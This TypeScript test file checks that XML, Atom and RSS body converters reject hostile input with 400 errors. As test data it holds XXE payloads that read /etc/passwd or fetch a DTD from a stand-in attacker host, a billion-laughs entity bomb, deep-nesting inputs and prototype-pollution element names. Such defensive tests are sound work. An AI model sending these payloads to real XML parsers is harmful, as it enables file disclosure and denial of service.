import { ProblemType } from '../../../src/errors/problem-types';
import { parseMediaType } from '../../../src/http/media-type';
import { AtomConverter, type BodyConverter, type BodyKind, RssConverter, XmlObjectConverter, XmlSourceConverter } from '../../../src/converters';
import { readOptions, rejection } from '../../setup/converter-fixture';

const XXE = `<?xml version="1.0"?>
<!DOCTYPE book [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<book><title>&xxe;</title></book>`;

const XXE_PARAMETER = `<?xml version="1.0"?>
<!DOCTYPE book [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd">%remote;]>
<book/>`;

const BILLION_LAUGHS = `<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>`;

const deep = (levels: number): string => `${'<a>'.repeat(levels)}x${'</a>'.repeat(levels)}`;

const readers: readonly [string, BodyConverter, BodyKind, string][] = [
  ['xml-object', new XmlObjectConverter(), 'object', 'application/xml'],
  ['xml-source', new XmlSourceConverter(), 'xml-document', 'text/xml'],
  ['atom', new AtomConverter(), 'feed', 'application/atom+xml'],
  ['rss', new RssConverter(), 'feed', 'application/rss+xml'],
];

/** Each attack, and the reason its refusal must give: refused by the rule meant for it, not by chance. */
const attacks: readonly [string, string | Buffer, RegExp][] = [
  ['an external entity (XXE)', XXE, /document type declaration \(<!DOCTYPE>\); DTDs and entities are not accepted/],
  ['an external parameter entity', XXE_PARAMETER, /document type declaration \(<!DOCTYPE>\); DTDs and entities are not accepted/],
  ['entity expansion (billion laughs)', BILLION_LAUGHS, /document type declaration \(<!DOCTYPE>\); DTDs and entities are not accepted/],
  ['a DOCTYPE with only a public identifier', '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd"><html/>', /document type declaration \(<!DOCTYPE>\); DTDs and entities are not accepted/],
  ['a lower-case doctype after a comment', '<!-- hi --><!doctype a><a/>', /document type declaration \(<!DOCTYPE>\); DTDs and entities are not accepted/],
  ['a DOCTYPE in UTF-16', Buffer.from('\ufeff<!DOCTYPE a [<!ENTITY e SYSTEM "file:///etc/passwd">]><a>&e;</a>', 'utf16le'), /document type declaration \(<!DOCTYPE>\); DTDs and entities are not accepted/],
  ['an undeclared entity reference', '<a>&xxe;</a>', /entity/],
  ['elements nested deeper than the limit', deep(65), /nests elements deeper than 64 levels/],
  ['a hundred thousand nested elements', deep(100_000), /nests elements deeper than 64 levels/],
];

describe.each(readers)('the %s reader', (_name, converter, kind, contentType) => {
  it.each(attacks)('answers 400 to %s, for the reason meant for it', async (_attack, body, reason) => {
    const error = await rejection(converter.read(Buffer.isBuffer(body) ? body : Buffer.from(body), readOptions(contentType, kind)), 400);
    expect(error.type).toBe(ProblemType.malformedBody);
    expect(error.detail).toMatch(reason);
  });

  it.each<[string, Buffer]>([
    ['a control character (U+0001)', Buffer.from('<a>x\u0001</a>')],
    ['an escape character (U+001B) in an attribute', Buffer.from('<a b="\u001b"/>')],
    ['U+FFFF', Buffer.from('<a>\uffff</a>')],
  ])('answers 400 to %s, which XML allows nowhere, naming it and where', async (_name, body) => {
    const error = await rejection(converter.read(body, readOptions(contentType, kind)), 400);
    expect(error.type).toBe(ProblemType.malformedBody);
    expect(error.detail).toMatch(/a character XML does not allow \(U\+[0-9A-F]{4}\) at line 1, column \d+/);
  });

  it.each([
    ['a decimal reference to U+0001 in text', '<a>T&#1;</a>'],
    ['a hexadecimal reference to U+001B in an attribute', '<a b="&#x1b;"/>'],
    ['a reference to U+FFFF', '<a>&#xFFFF;</a>'],
  ])('answers 400 to %s', async (_name, body) => {
    const error = await rejection(converter.read(Buffer.from(body), readOptions(contentType, kind)), 400);
    expect(error.type).toBe(ProblemType.malformedBody);
  });

  it('names the DOCTYPE as the reason', async () => {
    const error = await rejection(converter.read(Buffer.from(XXE), readOptions(contentType, kind)), 400);
    expect(error.detail).toMatch(/DOCTYPE/);
  });

  it('honours a configured depth limit', async () => {
    const error = await rejection(converter.read(Buffer.from(deep(5)), readOptions(contentType, kind, { maxDepth: 4 })), 400);
    expect(error.detail).toMatch(/deeper than 4 levels/);
  });
});

describe('the XML object reader', () => {
  const converter = new XmlObjectConverter();

  it('reads elements nested exactly to the limit', async () => {
    await expect(converter.read(Buffer.from(deep(4)), readOptions('application/xml', 'object', { maxDepth: 4 }))).resolves.toEqual({ a: { a: { a: 'x' } } });
  });

  it('does not mistake DOCTYPE text in comments, CDATA or attribute values for a declaration', async () => {
    const body = '<a note="&lt;!DOCTYPE x>"><!-- <!DOCTYPE y> --><b><![CDATA[<!DOCTYPE z>]]></b></a>';
    await expect(converter.read(Buffer.from(body), readOptions('application/xml', 'object'))).resolves.toEqual({ note: '<!DOCTYPE x>', b: '<!DOCTYPE z>' });
  });

  it('never lets element or attribute names reach a prototype', async () => {
    const body = '<a __proto__="x"><__proto__><polluted>yes</polluted></__proto__><constructor><prototype><polluted>yes</polluted></prototype></constructor><ok>1</ok></a>';
    const value = await converter.read(Buffer.from(body), readOptions('application/xml', 'object'));
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    expect(value).toEqual({ ok: '1' });
    expect(Object.getPrototypeOf(value)).toBe(Object.prototype);
  });
});

describe('the XML source writer', () => {
  it('refuses a document whose text XML cannot carry, rather than send one no parser reads', async () => {
    const converter = new XmlSourceConverter();
    const document = await converter.read(Buffer.from('<a>bell</a>'), readOptions('text/xml', 'xml-document'));
    document.documentElement!.firstChild!.nodeValue = 'bell\u0007';
    expect(() => converter.write(document, { mediaType: parseMediaType('text/xml') })).toThrow('The value cannot be written as XML: a character XML does not allow (U+0007)');
  });
});
